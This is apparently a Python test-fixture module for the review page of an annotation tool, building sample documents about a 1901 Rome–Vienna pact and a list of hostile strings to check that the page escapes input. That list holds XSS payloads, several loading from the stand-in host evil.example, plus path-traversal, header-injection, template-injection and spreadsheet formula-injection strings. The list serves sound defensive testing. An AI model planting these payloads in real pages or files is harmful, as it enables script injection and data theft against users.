"""Documents and proposals for the tests of the review page, made in code."""

import random
import re
from datetime import date

from app_kit import bundled, folder_with

from detente.reading.proposal import Draft, ProposalPart, proposal
from detente.reading.review import add_document, review_path
from detente.reading.text import Document, Span

PARAGRAPHS = (
    "Rome warned Vienna on 4 May 1901. The pact may well fail, some experts say. "
    "If Berlin signs, Vienna will follow.",
    "The café of 🇮🇹 diplomats 😀 was quiet. Vienna promised aid in June.",
    "Nothing was said in this paragraph about anybody at all.",
    "A survey of 1901 found 41 per cent for the pact. Rome and Vienna met again.",
    "Both capitals will meet on 3 June 1902 in Geneva.",
)
TEXT = "\n\n".join(PARAGRAPHS)
DEFAULTS = {
    "actor": {"actor": "ITA", "name": "Rome", "type": "government", "candidates": None},
    "relation": {"source": "ITA", "target": "AUH", "directed": True, "quad": None, "root": None},
    "hedge": {"band": "likely"},
    "attribution": {"who": "some experts", "type": "expert", "mode": "indirect"},
    "conditional": {"form": "if", "negated": False},
    "date": {
        "first": "1901-05-04",
        "last": "1901-05-04",
        "granularity": "day",
        "relative": False,
    },
    "survey": {
        "pollster": None,
        "item": "for the pact",
        "public": "ITA",
        "share": 0.41,
        "date": "1901-01-01",
        "earlier_share": None,
        "earlier_date": None,
        "subgroup": None,
        "direction": None,
        "against": None,
    },
    "scheduled": {"label": "meeting", "date": "1902-06-03", "granularity": "day"},
    "deed": {"giver": "AUH", "receiver": None, "status": "promised", "form": "material"},
    "tie": {"a": "AUH", "b": "ITA", "sign": "-"},
    "stance": {"leans": "fragile"},
}


def span_of(text, words, nth=1):
    """Where words stand."""
    at = -1
    for _ in range(nth):
        at = text.index(words, at + 1)
    return Span(at, at + len(words))


def made(document, kind, words, *, nth=1, p=0.72, fields=None, parts=(), reason="Said so.", **by):
    """A proposal of a document, at its words."""
    draft = Draft(
        kind=kind,
        span=span_of(document.text, words, nth),
        fields=DEFAULTS[kind] | (fields or {}),
        rule=by.get("rule", "plain"),
        reason=reason,
        parts=tuple(ProposalPart(role, span_of(document.text, w, n)) for role, w, n in parts),
    )
    return proposal(document, draft, reader=by.get("reader", kind), version=1, p=p)


def small():
    """A document of five paragraphs, the third without any proposal, and its proposals."""
    doc = Document(
        text=TEXT,
        name="pact.txt",
        published=date(1901, 6, 1),
        title="Will the pact hold?",
        author="A. Writer",
        outlet="The Gazette",
    )
    mentions = (("mention", "Rome", 1), ("mention", "Rome", 2))
    found = [
        made(doc, "actor", "Rome", parts=mentions, p=0.97),
        made(doc, "actor", "Vienna", fields={"actor": "AUH", "name": "Vienna"}, p=0.98),
        made(doc, "relation", "Rome warned Vienna on 4 May 1901", reason="warned"),
        made(doc, "date", "4 May 1901", p=0.96),
        made(doc, "attribution", "The pact may well fail, some experts say"),
        made(doc, "hedge", "may well", p=0.9),
        made(doc, "stance", "pact may well fail", p=0.99),
        made(
            doc,
            "conditional",
            "If Berlin signs, Vienna will follow",
            parts=(("antecedent", "Berlin signs", 1), ("consequent", "Vienna will follow", 1)),
            p=0.99,
        ),
        made(doc, "deed", "Vienna promised aid in June"),
        made(doc, "date", "June", fields={"first": "1901-06-01", "granularity": "month"}, p=0.6),
        made(doc, "survey", "41 per cent", p=0.95),
        made(doc, "tie", "Rome and Vienna met again"),
        made(doc, "scheduled", "meet on 3 June 1902", p=0.97),
        made(doc, "date", "3 June 1902", fields={"first": "1902-06-03"}, p=0.96),
    ]
    return doc, found


def large(count=500, paragraphs=60, seed=7):
    """Ten pages and ``count`` proposals of all sizes, many of them overlapping."""
    rng = random.Random(seed)  # noqa: S311
    words = re.findall(
        r"\S+", "Rome Vienna warned may pact on 4 May 1901 signed the of and fail 😀"
    )
    text = "\n\n".join(
        " ".join(
            " ".join(rng.choice(words) for _ in range(rng.randint(8, 20))) + "."
            for _ in range(rng.randint(3, 6))
        )
        for _ in range(paragraphs)
    )
    doc = Document(text=text, name="ten-pages.txt", published=date(1901, 6, 1), title="Ten pages")
    spans = [p.words for p in doc.paragraphs]
    kinds, found = list(DEFAULTS), {}
    while len(found) < count:
        some, kind = rng.choice(spans), rng.choice(kinds)
        first = rng.randrange(len(some))
        last = min(len(some) - 1, first + rng.choice((0, 1, 2, 6, 14)))
        span = Span(some[first][0], some[last][1])
        draft = Draft(
            kind=kind, span=span, fields=DEFAULTS[kind], rule="r", reason="Found by a rule."
        )
        one = proposal(doc, draft, reader="kit", version=1, p=round(rng.uniform(0.4, 1), 3))
        found[one.id] = one
    return doc, list(found.values())


HOSTILE_TEXTS = (
    "<script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<math><mtext><style><img src onerror=window.pwned=1></style></mtext></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "javascript:window.pwned=1",
    "<form action=//evil.example><button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<object data=//evil.example></object>",
    "<template><script>window.pwned=1</script></template>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</li></ol></section></main>",
    "</option></select><img src=x onerror=window.pwned=1>",
    "<!-- <script>window.pwned=1</script> -->",
    "]]><![CDATA[<x>",
    '" onmouseover=window.pwned=1 x="',
    "' onmouseover=window.pwned=1 x='",
    "` onmouseover=window.pwned=1",
    "{{ 7*7 }} {% raw %} {# x #} ${7*7} #{7*7}",
    "&lt;script&gt; &amp;amp; &#60;b&#62; &nbsp",
    "line\u2028separator\u2029paragraph",
    "\u202eright to left override\u202c and \u2066isolate",
    "zero\u200bwidth\ufeffmark\u00adhyphen",
    "nul\0byte and \x1b[31mescape \x07 bell",
    "carriage\rreturn and\r\nboth, form\ffeed, tab\there",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family and \U0001f1ee\U0001f1f9 flag",
    "Z\u0351\u0300a\u0300\u0301\u0302lgo e\u0301",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 and \u05e2\u05d1\u05e8\u05d9\u05ea",
    "\U000e0001\U000e0041 tags, \ufdd0 noncharacter, \U0010ffff last",
    "../../etc/passwd",
    "%3Cscript%3E%0d%0aSet-Cookie: x=1",
    "=cmd|' /C calc'!A0",
)


def hostile(string):
    """A document in which every text is a hostile one: words, title, fields, reasons, names."""
    doc = Document(
        text=f"Rome met {string} and Vienna on 4 May 1901.\n\n{string}",
        name=f"{string}.txt",
        published=date(1901, 6, 1),
        title=string,
        author=string,
        outlet=string,
    )
    first, last = len("Rome met "), len("Rome met ") + len(string)
    by = {"reader": string, "version": 1, "p": 0.96}
    own = {"reason": string, "rule": string, "parts": (ProposalPart(string, Span(0, 4)),)}
    drafts = [
        Draft(
            kind="actor",
            span=Span(first, last),
            fields={"actor": string, "name": string, "type": string, "candidates": (string,)},
            **own,
        ),
        Draft(kind="attribution", span=Span(0, last), fields={"who": string}, **own),
        Draft(kind="hedge", span=Span(first, last), fields={"band": string, string: string}, **own),
        Draft(
            kind="tie",
            span=Span(0, last + 4),
            fields={"a": string, "b": "ITA", "sign": "+"},
            **own,
        ),
        Draft(kind="issue", span=Span(0, 4), fields={"label": string, "sides": (string,)}, **own),
    ]
    return doc, [proposal(doc, draft, **by) for draft in drafts]


def reviewed(path, *documents):
    """A folder with a case and its review file; returns the folder and the path of the file."""
    folder = folder_with(path, mine=bundled())
    file = review_path(folder / "mine.yaml")
    for doc, found in documents:
        add_document(file, doc, found)
    return folder, file
